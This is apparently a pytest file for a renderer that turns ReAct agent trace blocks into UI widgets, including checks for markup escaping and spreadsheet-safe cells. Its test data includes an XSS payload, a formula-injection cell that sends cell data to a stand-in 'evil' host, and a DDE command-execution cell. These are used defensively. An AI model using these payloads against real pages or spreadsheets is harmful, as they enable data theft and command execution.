"""The block → widget renderer is a plain function: tested without Streamlit."""

import json

import pytest

from components.render import OBSERVATION_PREVIEW_CHARS, block_widgets, group_indices, safe_label, spreadsheet_safe
from engine.react.parser import parse_blocks
from engine.react.types import ReActBlock, ReActType


def test_thought_is_an_open_blue_expander_with_markdown():
    [w] = block_widgets(ReActBlock(type=ReActType.THOUGHT, content="I need the Q3 figure."))
    assert w.kind == "expander" and w.expanded and ":blue[**Thought**]" in w.label
    assert w.children[0].kind == "markdown" and w.children[0].text == "I need the Q3 figure."


def test_action_carries_its_pretty_printed_input():
    action = ReActBlock(type=ReActType.ACTION, content="sales_query")
    given = ReActBlock(type=ReActType.ACTION_INPUT, content='{"quarter":"Q3","group_by":["region"]}')
    [w] = block_widgets(action, input_block=given)
    assert ":orange[sales\\_query]" in w.label and not w.expanded
    code = w.children[0]
    assert code.kind == "code" and code.language == "json" and '\n  "quarter": "Q3"' in code.text


def test_observation_is_collapsed_monospace_and_long_output_is_truncated_with_show_all():
    long = "x" * (OBSERVATION_PREVIEW_CHARS + 500)
    [w] = block_widgets(ReActBlock(type=ReActType.OBSERVATION, content=long), key="k1")
    assert w.kind == "expander" and not w.expanded and ":green[" in w.label
    code, caption, show_all = w.children
    assert code.kind == "code" and code.language is None and len(code.text) == OBSERVATION_PREVIEW_CHARS
    assert "500 more characters" in caption.text
    assert show_all.kind == "show_all" and show_all.text == long and show_all.key == "k1"


def test_short_observation_has_no_show_all():
    [w] = block_widgets(ReActBlock(type=ReActType.OBSERVATION, content="391"))
    assert [c.kind for c in w.children] == ["code"]


def test_errors_and_warnings_have_their_own_widgets():
    assert block_widgets(ReActBlock(type=ReActType.ERROR, content="down"))[0].kind == "error"
    assert block_widgets(ReActBlock(type=ReActType.WARNING, content="loop"))[0].kind == "warning"


def test_answer_is_plain_markdown_outside_collapsibles_and_kept_as_written():
    [w] = block_widgets(ReActBlock(type=ReActType.ANSWER, content="```\nThe total is 400.\n```"))
    assert w.kind == "markdown" and w.text == "```\nThe total is 400.\n```"


@pytest.mark.parametrize(
    ("answer", "shown"), [("108.", "108\\."), ("1) yes", "1) yes"), ("Total:\n42.", "Total:\n42\\.")]
)
def test_an_answer_that_is_only_a_number_is_not_a_list_marker(answer, shown):
    [w] = block_widgets(ReActBlock(type=ReActType.ANSWER, content=answer))
    assert w.text == shown


def test_french_labels():
    [w] = block_widgets(ReActBlock(type=ReActType.THOUGHT, content="x"), lang="fr")
    assert "**Pensée**" in w.label


@pytest.mark.parametrize("name", ["calc]:red[pwned", "<img src=x onerror=alert(1)>", "**bold** `code` $x$"])
def test_model_text_in_labels_loses_its_markup(name):
    [w] = block_widgets(ReActBlock(type=ReActType.ACTION, content=name))
    tail = w.label.split("**Action**", 1)[1]
    assert "<" not in tail and "`" not in tail and "[pwned" not in tail
    assert "*" not in tail.replace("\\*", "")
    assert safe_label("a" * 100).endswith("…") and len(safe_label("a" * 100)) == 60


def test_grouping_and_trace_membership():
    blocks = parse_blocks("Thought: a\nAction: calculator\nAction Input: {}\nObservation: 1\nAnswer: done\nError: x")
    assert group_indices(blocks) == [[0], [1, 2], [3], [4], [5]]
    assert [b.is_trace for b in blocks] == [True, True, True, True, False, False]


@pytest.mark.parametrize(
    "cell, shown",
    [
        ('=HYPERLINK("http://evil/?d="&A1, "x")', '\'=HYPERLINK("http://evil/?d="&A1, "x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("  \r\n=1", "'  \r\n=1"),
        ("-", "-"),
        ("-x", "'-x"),
        ("-3.5", "-3.5"),
        ("+5%", "+5%"),
        ("-1 234,5", "-1 234,5"),
        ("-1,234.50", "-1,234.50"),
        ("France", "France"),
        ("a=b", "a=b"),
        ("", ""),
        (-3.5, -3.5),
        (None, None),
        (True, True),
    ],
)
def test_spreadsheet_safe_cells(cell, shown):
    assert spreadsheet_safe(cell) == shown


def test_a_table_block_feeds_the_dataframe_spreadsheet_safe_names_and_cells():
    payload = {"columns": ["=cmd", "n", "t"], "rows": [["=1+1", -3.5, "-3.5"], ["@x", 2, "ok"]]}
    block = ReActBlock(type=ReActType.TABLE, content=json.dumps(payload))
    (expander,) = block_widgets(block)
    (frame,) = expander.children
    assert frame.kind == "dataframe"
    assert frame.data == [{"'=cmd": "'=1+1", "n": -3.5, "t": "-3.5"}, {"'=cmd": "'@x", "n": 2, "t": "ok"}]
